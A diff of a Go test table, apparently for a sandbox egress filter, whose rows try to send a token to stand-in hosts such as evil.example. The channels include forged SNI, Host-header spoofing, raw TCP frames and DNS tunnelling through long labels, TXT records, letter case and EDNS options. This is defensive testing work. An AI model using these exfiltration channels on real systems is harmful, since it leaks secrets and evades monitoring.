@@ -39,6 +39,10 @@ const byName = "the process goes to the listed host, by the name, and never to t
 var names = []row{
 	{name: "a listed address and port, to show that the attacker can send", at: lan, may: lan, must: true, why: "it is listed",
 		try: func(x scene) attempts { return dial("tcp", x.lan, 81, x.text()) }},
+	{name: "the same in a frame made by hand, to show that these come as far", at: lan, may: lan, must: true, why: "it is listed",
+		try: func(x scene) attempts {
+			return frames(x.via(x.to(x.lan, 6), tcp(x.eve, x.lan, x.port, 81, syn, x.text())))
+		}},
 	{name: "TCP to a foreign address", try: func(x scene) attempts { return dial("tcp", x.evil, 8080, x.text()) }},
 	{name: "TCP to a foreign address, at a port that is listed of another", try: func(x scene) attempts { return dial("tcp", x.evil, 81, x.text()) }},
 	{name: "TCP to another port of a listed address", at: lan, try: func(x scene) attempts { return dial("tcp", x.lan, 82, x.text()) }},
@@ -48,9 +52,9 @@ var names = []row{
 	}},
 	{name: "HTTPS of a foreign name at its address", try: func(x scene) attempts { return dial("tcp", x.evil, 443, hello(x.token+".evil.example", "h2", nil)) }},
 	{name: "TLS without a name", try: func(x scene) attempts { return dial("tcp", x.evil, 443, hello("", x.token, nil)) }},
-	{name: "a listed name in TLS, at a foreign address (forged SNI, /etc/hosts)", may: lan, why: byName,
+	{name: "a listed name in TLS, at a foreign address (forged SNI, /etc/hosts)", may: lan, carried: true, why: byName,
 		try: func(x scene) attempts { return dial("tcp", x.evil, 443, hello("site.example", x.token, nil)) }},
-	{name: "a listed name in HTTP, at a foreign address", may: lan, why: byName,
+	{name: "a listed name in HTTP, at a foreign address", may: lan, carried: true, why: byName,
 		try: func(x scene) attempts { return dial("tcp", x.evil, 80, get("/"+x.token, "Host: site.example")) }},
 	{name: "a foreign name in TLS, at an address that a listed name shares", at: lan,
 		try: func(x scene) attempts { return dial("tcp", x.lan, 443, hello(x.token+".evil.example", "h2", nil)) }},
@@ -124,7 +128,9 @@ var dns = []row{
 	{name: "data in long labels", at: lan, try: func(x scene) attempts { return dial("udp", x.lan, 53, question(long(x.token), 1)) }},
 	{name: "text records (TXT)", at: lan, try: func(x scene) attempts { return dial("udp", x.lan, 53, question(x.token+".evil.example", 16)) }},
 	{name: "a name below a listed one", at: lan, try: func(x scene) attempts { return dial("udp", x.lan, 53, question(x.token+".site.example", 16)) }},
-	{name: "a name below a listed one with `*`", at: lan, may: lan, why: "`*.cdn.example` lists every name below: who answers for them is trusted",
+	{name: "a name below a listed one with `*`", at: lan, may: lan, carried: true, why: "`*.cdn.example` lists every name below: who answers for them is trusted",
+		try: func(x scene) attempts { return dial("udp", x.lan, 53, question(x.token+".cdn.example", 1)) }},
+	{name: "data in the case of a listed name's letters", at: lan, capitals: true,
 		try: func(x scene) attempts { return dial("udp", x.lan, 53, question(x.token+".cdn.example", 1)) }},
 	{name: "data beside a listed name (an option of EDNS)", at: lan, try: func(x scene) attempts { return dial("udp", x.lan, 53, question("site.example", 1, edns(x.token)...)) }},
 	{name: "data behind a question for a listed name", at: lan, try: func(x scene) attempts {
